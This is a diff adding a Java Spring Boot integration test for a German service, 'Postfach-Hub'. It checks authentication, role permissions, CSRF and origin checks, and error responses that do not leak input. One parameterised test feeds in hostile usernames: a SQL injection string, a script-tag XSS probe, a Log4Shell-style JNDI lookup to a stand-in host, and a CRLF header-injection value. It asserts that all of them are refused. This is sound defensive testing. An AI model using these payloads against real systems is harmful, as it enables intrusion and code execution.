@@ -1,0 +1,420 @@
+package de.postfachhub.zugang;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import java.io.IOException;
+import java.net.CookieManager;
+import java.net.URI;
+import java.net.URLEncoder;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpRequest.BodyPublishers;
+import java.net.http.HttpResponse;
+import java.net.http.HttpResponse.BodyHandlers;
+import java.nio.charset.StandardCharsets;
+import java.util.Base64;
+import java.util.List;
+import java.util.Locale;
+import java.util.regex.Pattern;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.EnumSource;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.springframework.boot.test.context.SpringBootTest;
+import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
+import org.springframework.boot.test.web.server.LocalServerPort;
+import org.springframework.security.crypto.bcrypt.BCryptPasswordEncoder;
+import org.springframework.test.context.ActiveProfiles;
+import org.springframework.test.context.DynamicPropertyRegistry;
+import org.springframework.test.context.DynamicPropertySource;
+
+/** Walks through the doors as programs and browsers do, on a real port. */
+@SpringBootTest(
+        classes = Probe.class,
+        webEnvironment = WebEnvironment.RANDOM_PORT,
+        properties = {
+            "spring.config.location=classpath:/nichts/",
+            "spring.config.on-not-found=ignore",
+            "management.endpoints.web.exposure.include=health,env",
+            "springdoc.swagger-ui.disable-swagger-default-url=true"
+        })
+@ActiveProfiles("probe")
+class ZugangTest {
+
+    private static final String KENNWORT = "ein-langes-Kennwort-ß";
+    private static final ObjectMapper JSON = new ObjectMapper();
+
+    @LocalServerPort
+    private int port;
+
+    private final HttpClient programm = HttpClient.newHttpClient();
+    private final HttpClient browser =
+            HttpClient.newBuilder().cookieHandler(new CookieManager()).build();
+
+    @DynamicPropertySource
+    static void benutzer(DynamicPropertyRegistry einstellungen) {
+        var kennwort = "{bcrypt}" + new BCryptPasswordEncoder(4).encode(KENNWORT);
+        var rollen = Rolle.values();
+        for (int i = 0; i < rollen.length; i++) {
+            var stelle = "postfach.benutzer[" + i + "]";
+            var rolle = rollen[i].name();
+            einstellungen.add(stelle + ".name", () -> rolle.toLowerCase(Locale.ROOT));
+            einstellungen.add(stelle + ".kennwort", () -> kennwort);
+            einstellungen.add(stelle + ".rollen", () -> rolle);
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {"/api/probe", "/api/gibt-es-nicht", "/v3/api-docs", "/actuator/env", "/swagger-ui/index.html"})
+    void asksAProgramToSignIn(String pfad) throws Exception {
+        var antwort = sende(programm, anfrage(pfad));
+
+        assertThat(antwort.statusCode()).isEqualTo(401);
+        assertThat(antwort.headers().firstValue("WWW-Authenticate"))
+                .contains("Basic realm=\"Postfach-Hub\", charset=\"UTF-8\"");
+        assertThat(antwort.headers().allValues("Set-Cookie")).isEmpty();
+        assertThat(problem(antwort).path("title").asText()).isEqualTo("Anmeldung erforderlich");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"/", "/swagger-ui/index.html", "/v3/api-docs", "/actuator/env", "/gibt-es-nicht"})
+    void leadsAPersonToTheLogin(String pfad) throws Exception {
+        var antwort = sende(browser, anfrage(pfad).header("Accept", "text/html"));
+
+        assertThat(antwort.statusCode()).isEqualTo(302);
+        assertThat(antwort.headers().firstValue("Location").orElseThrow()).endsWith("/anmelden");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"/actuator/health", "/anmelden", "/zugang/zugang.css"})
+    void letsEverybodySeeHealthAndLogin(String pfad) throws Exception {
+        assertThat(sende(programm, anfrage(pfad)).statusCode()).isEqualTo(200);
+    }
+
+    @ParameterizedTest
+    @EnumSource(Rolle.class)
+    void letsEveryRoleReadAndSomeChange(Rolle rolle) throws Exception {
+        boolean aendert =
+                List.of(Rolle.BETRIEB, Rolle.ADMINISTRATION, Rolle.GENEHMIGUNG).contains(rolle);
+
+        assertThat(sende(programm, als(rolle, "/api/probe")).statusCode()).isEqualTo(200);
+        assertThat(sende(programm, als(rolle, "/api/probe").method("HEAD", BodyPublishers.noBody()))
+                        .statusCode())
+                .isEqualTo(200);
+        assertThat(sende(programm, als(rolle, "/v3/api-docs")).statusCode()).isEqualTo(200);
+        assertThat(sende(programm, als(rolle, "/api/probe").POST(BodyPublishers.noBody()))
+                        .statusCode())
+                .isEqualTo(aendert ? 200 : 403);
+        assertThat(sende(programm, als(rolle, "/api/probe/genehmigung").POST(BodyPublishers.noBody()))
+                        .statusCode())
+                .isEqualTo(rolle == Rolle.GENEHMIGUNG ? 200 : 403);
+        assertThat(sende(programm, als(rolle, "/actuator/env")).statusCode())
+                .isEqualTo(rolle == Rolle.BETRIEB ? 200 : 403);
+    }
+
+    @Test
+    void tellsAProgramThatItIsNotAllowed() throws Exception {
+        var antwort = sende(programm, als(Rolle.LESEN, "/api/probe").POST(BodyPublishers.noBody()));
+
+        assertThat(problem(antwort).path("title").asText()).isEqualTo("Nicht erlaubt");
+        assertThat(antwort.headers().allValues("Set-Cookie")).isEmpty();
+    }
+
+    @Test
+    void saysTheSameToAnUnknownUserAndToAWrongPassword() throws Exception {
+        var falsch = sende(programm, anfrage("/api/probe").header("Authorization", basic("lesen", "falsch")));
+        var unbekannt = sende(programm, anfrage("/api/probe").header("Authorization", basic("niemand", KENNWORT)));
+
+        assertThat(falsch.statusCode()).isEqualTo(401);
+        assertThat(unbekannt.statusCode()).isEqualTo(401);
+        assertThat(problem(unbekannt).path("detail")).isEqualTo(problem(falsch).path("detail"));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "",
+                " ",
+                "LESEN",
+                "lesen ",
+                "' OR '1'='1",
+                "<script>alert(1)</script>",
+                "${jndi:ldap://boese.invalid/a}",
+                "a\u0000b",
+                "lesen\r\nX-Boese: 1",
+                "\uFFFD\uD83D\uDE00"
+            })
+    void refusesHostileNames(String name) throws Exception {
+        var antwort = sende(programm, anfrage("/api/probe").header("Authorization", basic(name, KENNWORT)));
+
+        assertThat(antwort.statusCode()).isEqualTo(401);
+        assertThat(antwort.body()).doesNotContain("script", "jndi", "Boese");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {"Basic", "Basic ", "Basic ###", "basic bm9jb2xvbg==", "Bearer x", "Digest username=\"lesen\""})
+    void refusesWhatIsNoProof(String nachweis) throws Exception {
+        assertThat(sende(programm, anfrage("/api/probe").header("Authorization", nachweis))
+                        .statusCode())
+                .isEqualTo(401);
+    }
+
+    @Test
+    void refusesAPasswordThatIsTooLongForBcrypt() throws Exception {
+        var antwort = sende(programm, anfrage("/api/probe").header("Authorization", basic("lesen", "x".repeat(1000))));
+
+        assertThat(antwort.statusCode()).isEqualTo(401);
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "Sec-Fetch-Site, cross-site, 403",
+        "Sec-Fetch-Site, same-site, 403",
+        "Sec-Fetch-Site, same-origin, 200",
+        "Origin, https://boese.invalid, 403",
+        "Origin, http://localhost.boese.invalid, 403",
+        "Origin, null, 403",
+        "Origin, '::', 403",
+    })
+    void refusesAChangeThatAnotherSiteMakesABrowserSend(String kopfzeile, String wert, int status) throws Exception {
+        var antwort = sende(
+                programm,
+                als(Rolle.BETRIEB, "/api/probe").header(kopfzeile, wert).POST(BodyPublishers.noBody()));
+
+        assertThat(antwort.statusCode()).isEqualTo(status);
+    }
+
+    @Test
+    void acceptsAChangeFromThePagesOfTheHub() throws Exception {
+        var antwort = sende(
+                programm,
+                als(Rolle.BETRIEB, "/api/probe")
+                        .header("Origin", "http://localhost:" + port)
+                        .POST(BodyPublishers.noBody()));
+
+        assertThat(antwort.statusCode()).isEqualTo(200);
+    }
+
+    @Test
+    void signsAPersonInAndOut() throws Exception {
+        var drinnen = melde("betrieb", KENNWORT);
+        assertThat(drinnen.statusCode()).isEqualTo(302);
+        assertThat(drinnen.headers().firstValue("Location").orElseThrow()).endsWith("/");
+        assertThat(drinnen.headers().firstValue("Set-Cookie").orElseThrow()).contains("HttpOnly", "SameSite=Lax");
+
+        var start = sende(browser, anfrage("/").header("Accept", "text/html"));
+        assertThat(start.statusCode()).isEqualTo(200);
+        assertThat(start.body()).contains("Angemeldet als betrieb, Rollen: BETRIEB.");
+        assertThat(sende(browser, anfrage("/api/probe")).statusCode()).isEqualTo(200);
+
+        var draussen = sende(browser, formular("/abmelden", "_csrf=" + token(start)));
+        assertThat(draussen.headers().firstValue("Location").orElseThrow()).endsWith("/anmelden?abgemeldet");
+        assertThat(sende(browser, anfrage("/api/probe")).statusCode()).isEqualTo(401);
+    }
+
+    @Test
+    void returnsToThePageThatWasAskedFor() throws Exception {
+        sende(browser, anfrage("/swagger-ui/index.html").header("Accept", "text/html"));
+
+        assertThat(melde("lesen", KENNWORT).headers().firstValue("Location").orElseThrow())
+                .contains("/swagger-ui/index.html");
+    }
+
+    @Test
+    void doesNotTellAPersonWhetherTheUserExists() throws Exception {
+        var falsch = melde("betrieb", "falsch");
+        var unbekannt = melde("niemand", KENNWORT);
+        assertThat(falsch.headers().firstValue("Location"))
+                .isEqualTo(unbekannt.headers().firstValue("Location"));
+
+        var seite = sende(browser, anfrage("/anmelden?fehler&benutzername=%3Cscript%3E"));
+        assertThat(seite.body())
+                .contains("role=\"alert\"", "Benutzername oder Kennwort stimmt nicht", "lang=\"de\"")
+                .doesNotContain("script");
+    }
+
+    @Test
+    void wantsATokenForWhatABrowserChanges() throws Exception {
+        melde("betrieb", KENNWORT);
+        var ohne = sende(browser, anfrage("/api/probe").POST(BodyPublishers.noBody()));
+        assertThat(ohne.statusCode()).isEqualTo(403);
+        assertThat(problem(ohne).path("status").asInt()).isEqualTo(403);
+
+        var token = token(sende(browser, anfrage("/").header("Accept", "text/html")));
+        var mit = sende(
+                browser, anfrage("/api/probe").header("X-CSRF-TOKEN", token).POST(BodyPublishers.noBody()));
+        assertThat(mit.statusCode()).isEqualTo(200);
+    }
+
+    @Test
+    void asksAgainWhenTheLoginPageIsOlderThanItsSession() throws Exception {
+        var antwort = sende(
+                browser,
+                formular("/anmelden", "benutzername=betrieb&kennwort=x&_csrf=von-gestern")
+                        .header("Accept", "text/html"));
+
+        assertThat(antwort.headers().firstValue("Location").orElseThrow()).endsWith("/anmelden?abgelaufen");
+    }
+
+    @Test
+    void showsPeopleAnErrorPageAndProgramsAProblem() throws Exception {
+        melde("lesen", KENNWORT);
+        var pfad = "/gibt-es-nicht/" + Probe.KANARIE;
+
+        var seite = sende(browser, anfrage(pfad).header("Accept", "text/html"));
+        assertThat(seite.statusCode()).isEqualTo(404);
+        assertThat(seite.body())
+                .contains("<html lang=\"de\">", "<h1>Nicht gefunden</h1>")
+                .doesNotContain(Probe.KANARIE);
+
+        var verboten = sende(browser, anfrage("/actuator/env").header("Accept", "text/html"));
+        assertThat(verboten.statusCode()).isEqualTo(403);
+        assertThat(verboten.body()).contains("<h1>Nicht erlaubt</h1>");
+
+        var problem = sende(browser, anfrage("/api" + pfad).header("Accept", "text/html"));
+        assertThat(problem.statusCode()).isEqualTo(404);
+        assertThat(problem(problem).path("title").asText()).isEqualTo("Nicht gefunden");
+        assertThat(problem.body()).doesNotContain(Probe.KANARIE);
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "/api/probe/keine-uuid-Kanarienvogel-0815 | 400 | UNGUELTIGER_WERT | id | erwartet wird eine UUID",
+                "/api/probe/suche | 400 | FELD_FEHLT | von | Der Parameter fehlt",
+                "/api/probe/suche?von=Kanarienvogel-0815 | 400 | UNGUELTIGER_WERT | von | Zeitpunkt mit Abstand zu UTC",
+                "/api/probe/suche?von=2025-10-01T00:00:00Z&seite=10 | 400 | UNGUELTIGER_WERT | seite | höchstens 9",
+                "/api/probe/suche?von=2025-10-01T00:00:00Z&rolle=Kanarienvogel-0815 | 400 | UNGUELTIGER_WERT | rolle"
+                        + " | erlaubt sind LESEN, ADMINISTRATION",
+            })
+    void saysWhatIsWrongWithTheInputWithoutRepeatingIt(String pfad, int status, String code, String feld, String text)
+            throws Exception {
+        var antwort = sende(programm, als(Rolle.LESEN, pfad));
+
+        assertThat(antwort.statusCode()).isEqualTo(status);
+        var fehler = problem(antwort).path("fehler").path(0);
+        assertThat(fehler.path("code").asText()).isEqualTo(code);
+        assertThat(fehler.path("feld").asText()).isEqualTo(feld);
+        assertThat(fehler.path("text").asText()).contains(text);
+        assertThat(antwort.body()).doesNotContain(Probe.KANARIE);
+    }
+
+    @Test
+    void refusesABodyThatIsNoJsonWithoutRepeatingIt() throws Exception {
+        var antwort = sende(
+                programm,
+                als(Rolle.BETRIEB, "/api/probe/auftrag")
+                        .header("Content-Type", "application/json")
+                        .POST(BodyPublishers.ofString("{" + Probe.KANARIE)));
+
+        assertThat(antwort.statusCode()).isEqualTo(400);
+        assertThat(problem(antwort).at("/fehler/0/code").asText()).isEqualTo("KEIN_JSON");
+        assertThat(antwort.body()).doesNotContain(Probe.KANARIE);
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "/api/probe/6f1e0a52-53a5-4f0e-9a39-0f6a1c3a7f10, 404, Die Probe gibt es nicht.",
+        "/api/probe/fehler, 500, Der Hub hat einen Fehler gemacht. Er steht im Log des Hubs.",
+        "/api/probe/gestoert, 503, Die Datenbank ist gerade nicht erreichbar. Bitte in einigen Minuten noch einmal versuchen.",
+    })
+    void answersWithAProblemInGerman(String pfad, int status, String text) throws Exception {
+        var antwort = sende(programm, als(Rolle.LESEN, pfad));
+
+        assertThat(antwort.statusCode()).isEqualTo(status);
+        var problem = problem(antwort);
+        assertThat(problem.path("detail").asText()).isEqualTo(text);
+        assertThat(problem.path("status").asInt()).isEqualTo(status);
+        assertThat(problem.path("instance").asText()).startsWith("urn:uuid:");
+        assertThat(antwort.body()).doesNotContain(Probe.KANARIE, "Exception", "trace");
+    }
+
+    @Test
+    void answersWithAProblemWhatNoResourceHandles() throws Exception {
+        assertThat(problem(sende(programm, als(Rolle.BETRIEB, "/api/probe").DELETE()))
+                        .path("title")
+                        .asText())
+                .isEqualTo("Methode nicht erlaubt");
+        assertThat(problem(sende(
+                                programm,
+                                als(Rolle.BETRIEB, "/api/probe/auftrag").POST(BodyPublishers.ofString("x"))))
+                        .path("title")
+                        .asText())
+                .isEqualTo("Medientyp nicht unterstützt");
+        assertThat(problem(sende(programm, als(Rolle.BETRIEB, "/api//probe;a=b")))
+                        .path("title")
+                        .asText())
+                .isEqualTo("Ungültige Anfrage");
+    }
+
+    @Test
+    void describesTheApiInGermanAndItsUiWorksUnderTheContentPolicy() throws Exception {
+        var beschreibung =
+                JSON.readTree(sende(programm, als(Rolle.LESEN, "/v3/api-docs")).body());
+        assertThat(beschreibung.at("/info/title").asText()).isEqualTo("Postfach-Hub");
+        assertThat(beschreibung.at("/components/securitySchemes/basic/scheme").asText())
+                .isEqualTo("basic");
+        assertThat(beschreibung.path("paths").fieldNames()).toIterable().allMatch(pfad -> pfad.startsWith("/api/"));
+
+        var seite = sende(programm, als(Rolle.LESEN, "/swagger-ui/index.html"));
+        assertThat(seite.statusCode()).isEqualTo(200);
+        assertThat(seite.headers().firstValue("Content-Security-Policy").orElseThrow())
+                .contains("default-src 'self'", "frame-ancestors 'none'");
+        assertThat(seite.body())
+                .doesNotContainPattern("<script[^>]*>\\s*[^<\\s]")
+                .doesNotContain("https://");
+        assertThat(sende(programm, als(Rolle.LESEN, "/swagger-ui/swagger-initializer.js"))
+                        .body())
+                .doesNotContain("petstore");
+    }
+
+    private HttpResponse<String> melde(String name, String kennwort) throws Exception {
+        var seite = sende(browser, anfrage("/anmelden").header("Accept", "text/html"));
+        return sende(
+                browser,
+                formular(
+                        "/anmelden",
+                        "benutzername=%s&kennwort=%s&_csrf=%s"
+                                .formatted(name, URLEncoder.encode(kennwort, StandardCharsets.UTF_8), token(seite))));
+    }
+
+    private static String token(HttpResponse<String> seite) {
+        var treffer = Pattern.compile("name=\"_csrf\" value=\"([^\"]+)\"").matcher(seite.body());
+        assertThat(treffer.find()).isTrue();
+        return treffer.group(1);
+    }
+
+    private HttpRequest.Builder formular(String pfad, String inhalt) {
+        return anfrage(pfad)
+                .header("Content-Type", "application/x-www-form-urlencoded")
+                .POST(BodyPublishers.ofString(inhalt));
+    }
+
+    private HttpRequest.Builder als(Rolle rolle, String pfad) {
+        return anfrage(pfad).header("Authorization", basic(rolle.name().toLowerCase(Locale.ROOT), KENNWORT));
+    }
+
+    private HttpRequest.Builder anfrage(String pfad) {
+        return HttpRequest.newBuilder(URI.create("http://localhost:" + port + pfad));
+    }
+
+    private static String basic(String name, String kennwort) {
+        return "Basic " + Base64.getEncoder().encodeToString((name + ":" + kennwort).getBytes(StandardCharsets.UTF_8));
+    }
+
+    private static HttpResponse<String> sende(HttpClient wer, HttpRequest.Builder anfrage)
+            throws IOException, InterruptedException {
+        return wer.send(anfrage.build(), BodyHandlers.ofString());
+    }
+
+    private static JsonNode problem(HttpResponse<String> antwort) throws IOException {
+        assertThat(antwort.headers().firstValue("Content-Type")).contains("application/problem+json");
+        return JSON.readTree(antwort.body());
+    }
+}
